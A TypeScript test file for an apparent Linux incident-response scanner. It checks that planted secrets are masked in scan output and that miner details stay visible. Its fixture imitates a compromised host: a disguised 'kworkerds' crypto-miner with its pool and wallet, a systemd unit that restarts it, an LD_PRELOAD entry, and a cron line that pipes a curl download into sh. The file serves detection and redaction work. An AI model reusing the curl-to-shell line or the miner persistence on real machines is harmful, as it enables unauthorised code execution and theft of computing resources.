/**
 * Secrets that stand in names: of folders, programs, units, processes, sockets, containers, settings. None is in
 * anything that is told, and what a responder needs beside them is.
 */
import { beforeAll, describe, expect, test } from 'bun:test';
import { dockerFiles, idOf } from '../../../src/artifacts/linux/containers/docker.fixture.ts';
import { type HostParts, scanRecorded } from '../../../src/scan/recorded-host.fixture.ts';
import type { ScanOutcome } from '../../../src/scan/scan.ts';
import type { Files } from '../../persistence/case.ts';
import { allOf, type Said, saidOf } from './said.ts';

/** Words that occur nowhere else; tokens are of the shape that their issuer gives them. */
const secret = {
  folder: `ghp_zq${'a1B2'.repeat(8)}c3D4`,
  program: 'zqProgram01',
  query: 'zqQuery02',
  unit: 'zqUnit03',
  template: `glpat-zqTemplate04${'x1Y2'.repeat(3)}`,
  process: 'zqProc05',
  glued: 'zqGlued06!A',
  cron: 'zqCron07',
  cronGlued: 'zqCr0nGlu3d08',
  environment: 'zqEnviron09',
  loader: 'zqLoader10',
  socket: 'zqSocket11',
  containerName: 'zqContainer12',
  containerEnv: 'zqContainerEnv13',
  label: 'zqLabel14',
  bind: 'zqBind15',
  cwd: 'zqCwd16',
  mount: 'zqMount17',
  mountSource: 'zqMountSource18',
  denied: 'zqDenied19',
  script: 'zqScript20',
  descriptor: 'zqDescriptor21',
  library: 'zqLibrary22',
  url: 'zqUrl23',
  unitFile: 'zqUnitFile24',
} as const;

const wallet =
  '48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD';
const pool = 'auth.pool.example.net:3333';
const exe = `/home/u/token=${secret.folder}/password=${secret.program}/kworkerds`;
const container = `api_key=${secret.containerName}`;
const id = idOf(container);

const plain = (files: Files): Record<string, string> =>
  Object.fromEntries(
    Object.entries(files).flatMap(([path, file]) => (typeof file === 'string' ? [[path, file]] : [])),
  );

const parts: HostParts = {
  processes: [
    {
      pid: 4300,
      exe,
      argv: ['job', '-o', `stratum+tcp://${pool}`, '-u', wallet, `-p${secret.glued}`, '-p8080', '-pidfile'],
      cpu: 95,
      samples: [0x9fe0, 0xbfe0, 0xdfe0, 0xdfc0, 0xffe0, 0x1fa0, 0x9fe0, 0xbfe0, 0xdfe0, 0x9fe0],
      cgroup: `0::/system.slice/run-token\\x3d${secret.unit}.service`,
      descriptors: { 7: `/srv/secret=${secret.descriptor}/pool.log (deleted)` },
      maps:
        '00400000-00500000 r-xp 00000000 08:01 7 /usr/bin/any\n' +
        `00600000-00700000 r-xp 00000000 08:01 8 /opt/passwd=${secret.library}/libm.so\n`,
    },
    {
      pid: 4301,
      exe: `/srv/api?token=${secret.query}&user=me`,
      argv: [`/srv/api?token=${secret.query}&user=me`],
      cgroup: `0::/system.slice/backup@${secret.template}.service`,
      cpu: 70,
    },
    {
      pid: 4302,
      exe: '/usr/sbin/sshd',
      argv: ['sshd'],
      cgroup: `0::/system.slice/docker-${id}.scope`,
    },
  ],
  files: {
    '/proc/4301/comm': `pw=${secret.process}\n`,
    '/proc/4301/stat':
      `4301 (pw=${secret.process}) R 0 4301 4301 0 -1 4194304 1 2 3 4 630000 0 0 0 20 0 1 0 100000 9000000 2500 9 ` +
      `${'0 '.repeat(27)}\n`,
    '/proc/4300/cwd': { link: `/srv/auth_token=${secret.cwd}` },
    '/proc/4300/environ': `API_TOKEN=${secret.environment}\0LD_PRELOAD=/opt/token=${secret.loader}/x.so\0`,
    '/proc/4301/exe': { link: `/srv/api?token=${secret.query}&user=me` },
    '/proc/4301/smaps': '',
    '/proc/4301/maps': { status: 'denied', reason: `EACCES: /srv/token=${secret.denied}/maps` },
    '/proc/1/net/unix':
      'Num       RefCount Protocol Flags    Type St Inode Path\n' +
      `0000000000000000: 00000002 00000000 00010000 0001 01 777 @app/session_token=${secret.socket}\n`,
    '/proc/1/mountinfo':
      '20 1 8:1 / / rw - ext4 /dev/sda1 rw\n21 20 0:5 / /proc rw - proc proc rw\n' +
      `30 20 0:9 / /mnt/key=${secret.mount} rw - cifs //files/share rw,username=u,password=${secret.mountSource}\n` +
      `31 21 8:1 /srv/secret=${secret.mount} /proc/4302 rw - ext4 /dev/sda1 rw\n`,
    [`/etc/systemd/system/run-token\\x3d${secret.unit}.service`]: `[Service]\nExecStart=${exe} --pool ${pool} --secret ${secret.unitFile}\nRestart=always\n[Install]\nWantedBy=multi-user.target\n`,
    '/etc/cron.d/job':
      `*/5 * * * * root curl -s "http://u:${secret.url}@192.0.2.7/x?token=${secret.cron}" | sh\n` +
      `*/7 * * * * root /var/tmp/.x/unknown -p${secret.cronGlued} -p8080 -print0\n` +
      `*/9 * * * * root /srv/token=${secret.script}/run.sh\n`,
    [`/srv/token=${secret.script}/run.sh`]: `#!/bin/sh\nexport DB_PASSWORD=${secret.script}\n/var/tmp/.x/job\n`,
    ...plain(
      dockerFiles({
        image: 'registry.example.net/team/token:1.4',
        name: container,
        path: '/usr/bin/job',
        args: ['-o', pool, `--password=${secret.containerEnv}`],
        env: [`DB_PASSWORD=${secret.containerEnv}`],
        labels: { 'com.example.secret': secret.label, note: `token=${secret.label}` },
        host: { Binds: [`/srv/password=${secret.bind}:/data`], RestartPolicy: { Name: 'always' } },
      }),
    ),
  },
};

const leaks = (said: Said): readonly string[] =>
  allOf(said).flatMap(([where, text]) =>
    Object.entries(secret).flatMap(([what, word]) => (text.includes(word) ? [`${what} in ${where}`] : [])),
  );

let masked: ScanOutcome;
let said: Said;
beforeAll(async () => {
  masked = await scanRecorded(parts);
  said = await saidOf(masked);
});

test('none of them is told anywhere', () => {
  expect(leaks(said)).toEqual([]);
});

describe('beside them', () => {
  test('program, folders, wallet, pool and host stand as they are', () => {
    const [miner] = masked.result.miners;
    expect(miner).toMatchObject({ pid: 4300, wallet, pool });
    expect(String(miner?.exe)).toBe('/home/u/token=***/password=***/kworkerds');
    expect(miner?.commandLine).toEndWith('-p*** -p8080 -pidfile');
    for (const [where, text] of Object.entries(said.screens)) {
      if (where.startsWith('scan')) expect(text, where).toContain('kworkerds');
    }
  });

  test('units and images keep their kind and their tag', () => {
    const units = masked.result.processes.map(({ unit }) => String(unit));
    expect(units).toContain('run-token\\x3d***.service');
    expect(units).toContain('backup@***.service');
    expect(said.json).toContain('registry.example.net/team/token:1.4');
  });

  test('what brings the miner back still names its program', () => {
    const [unit] = masked.result.persistence.filter(({ source }) => source.includes('run-token'));
    expect(unit?.command).toContain('/home/u/token=***/password=***/kworkerds');
    expect(unit?.command).toContain(pool);
    const cron = masked.result.persistence.filter(({ source }) => source === '/etc/cron.d/job');
    expect(cron.map(({ command }) => String(command))).toEqual(
      expect.arrayContaining([expect.stringContaining('-p*** -p8080 -print0')]),
    );
  });
});

test('with --keep-secrets they are told as they are', async () => {
  const kept = await saidOf(await scanRecorded({ ...parts, keepSecrets: true }));
  // All that is planted would be told, but values of environments and labels, which nobody needs.
  const told = new Set(leaks(kept).map((leak) => leak.split(' in ')[0]));
  expect(Object.keys(secret).filter((what) => !told.has(what))).toEqual(['environment', 'label']);
  expect(kept.json).toContain(exe);
  expect(kept.json).toContain(`-p${secret.glued}`);
  expect(kept.json).toContain(secret.unitFile);
  expect(kept.caseFile).toContain(secret.socket);
});
